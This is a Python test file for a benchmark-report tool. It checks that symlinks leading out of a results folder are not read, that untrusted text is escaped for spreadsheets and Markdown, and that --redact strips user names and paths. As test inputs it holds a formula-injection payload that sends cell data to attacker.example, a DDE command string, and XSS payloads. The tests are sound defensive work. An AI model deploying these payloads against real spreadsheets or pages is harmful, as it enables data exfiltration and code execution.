"""A results folder is not trusted: links out of it are not read, text cells cannot become
spreadsheet formulas or Markdown, and --redact removes paths and user names from the report."""

from __future__ import annotations

import csv
import json
from pathlib import Path

from analysis.load import load_run
from analysis.sanitize import LEAVES_FOLDER, markdown_cell, spreadsheet_text
from bench_client.results_format import ExitCode
from httplab.cli import main
from tests.analysis.conftest import small_run

SECRET = "root:$y$j9T$SECRET-HASH:19000:0:99999:7:::"


def _outside_file(tmp_path: Path) -> Path:
    secret = tmp_path / "shadow"
    secret.write_text(SECRET + "\n")
    return secret


def test_a_csv_linked_outside_the_folder_is_not_read(tmp_path: Path) -> None:
    root = small_run(tmp_path / "run")
    target = root / "constant" / "flask-dev" / "GET.csv"
    target.unlink()
    target.symlink_to(_outside_file(tmp_path))
    run = load_run(root)
    assert any(p.file == target and p.message == LEAVES_FOLDER for p in run.problems)
    assert all("SECRET" not in str(problem) for problem in run.problems)
    assert main(["report", str(root)]) == ExitCode.INPUT_SKIPPED
    report = (root / "report" / "index.html").read_text() + (
        root / "report" / "tables.md"
    ).read_text()
    assert "SECRET" not in report


def test_a_meta_file_linked_outside_is_not_read(tmp_path: Path) -> None:
    root = small_run(tmp_path / "run")
    meta = root / "constant" / "flask-dev" / "GET.meta.json"
    outside = tmp_path / "outside.json"
    outside.write_text(json.dumps({"client_limits": {"client_bottleneck": True, "reasons": ["X"]}}))
    meta.unlink()
    meta.symlink_to(outside)
    run = load_run(root)
    assert any(p.file == meta and p.message == LEAVES_FOLDER for p in run.problems)
    measured = [m for m in run.measurements if m.csv.parent == meta.parent and m.request == "GET"]
    assert measured and measured[0].meta is None


def test_a_link_inside_the_folder_is_still_read(tmp_path: Path) -> None:
    root = small_run(tmp_path / "run")
    copy = root / "constant" / "flask-dev" / "GET.rep9.csv"
    copy.symlink_to(root / "constant" / "flask-dev" / "GET.csv")
    assert not [p for p in load_run(root).problems if p.message == LEAVES_FOLDER]


def test_formula_reasons_are_text_in_summary_csv(tmp_path: Path) -> None:
    root = small_run(tmp_path / "run")
    meta_path = root / "concurrent" / "django-daphne" / "GET.meta.json"
    meta = json.loads(meta_path.read_text())
    payload = '=HYPERLINK("http://attacker.example/?"&A1,"click")'
    meta["client_limits"]["reasons"] = [payload]
    meta_path.write_text(json.dumps(meta))
    main(["report", str(root)])
    with (root / "report" / "summary.csv").open(newline="") as handle:
        cells = [cell for row in csv.reader(handle) for cell in row]
    assert not [cell for cell in cells if cell.startswith(("=", "+", "@"))]
    assert any(cell.startswith("'=HYPERLINK") for cell in cells)


def test_a_client_host_s_words_are_text_in_every_csv_and_in_tables_md(tmp_path: Path) -> None:
    """compare.csv is made safe like summary.csv; a warning's words are not Markdown."""
    first, second = small_run(tmp_path / "a"), small_run(tmp_path / "b")
    payload = '=HYPERLINK("http://attacker.example/?"&A1,"click")'
    for root in (first, second):
        meta_path = root / "concurrent" / "django-daphne" / "GET.meta.json"
        meta = json.loads(meta_path.read_text())
        meta["client_limits"]["reasons"] = [payload + " <script>x</script>"]
        meta_path.write_text(json.dumps(meta))
    main(["report", str(first)])
    main(["compare", str(first), str(second), "--out", str(tmp_path / "cmp")])
    for path in (tmp_path / "cmp").glob("*.csv"):
        with path.open(newline="") as handle:
            cells = [cell for row in csv.reader(handle) for cell in row]
        assert not [cell for cell in cells if cell.startswith(("=", "+", "@"))], path
    tables_md = (first / "report" / "tables.md").read_text()
    assert "<script>" not in tables_md and r"\<script\>" in tables_md


def test_spreadsheet_text_leaves_numbers_and_plain_text() -> None:
    assert spreadsheet_text("-cmd|' /C calc'!A0") == "'-cmd|' /C calc'!A0"
    assert spreadsheet_text("@SUM(A1)") == "'@SUM(A1)"
    assert spreadsheet_text("client CPU") == "client CPU"
    assert spreadsheet_text(-1.5) == -1.5


def test_markdown_cells_are_literal_text() -> None:
    cell = markdown_cell("<img src=x onerror=alert(1)> [a](http://x) *b* | c\nd")
    assert cell == r"\<img src=x onerror=alert(1)\> \[a\](http://x) \*b\* \| c d"


def test_redact_replaces_results_path_client_paths_users_and_addresses(tmp_path: Path) -> None:
    root = small_run(tmp_path / "run")
    meta_path = root / "concurrent" / "django-daphne" / "GET.meta.json"
    meta = json.loads(meta_path.read_text())
    meta["client"] = {"python_executable": "/home/alice/httplab/venv/bin/python", "user": "alice"}
    meta["client_limits"]["reasons"] = ["alice@203.0.113.3:22 refused; see /home/alice/log"]
    meta_path.write_text(json.dumps(meta))
    # Without --redact the report shows them (what the option is for) ...
    main(["report", str(root)])
    plain = (root / "report" / "summary.csv").read_text()
    assert "alice@203.0.113.3:22" in plain
    # ... with it, none of them.
    main(["report", str(root), "--redact"])
    for name in ("index.html", "tables.md", "summary.csv"):
        text = (root / "report" / name).read_text()
        assert str(root.resolve()) not in text, name
        assert "alice" not in text, name
        assert "203.0.113.3:22" not in text, name
    assert "<user>@<host>:<port>" in (root / "report" / "summary.csv").read_text()
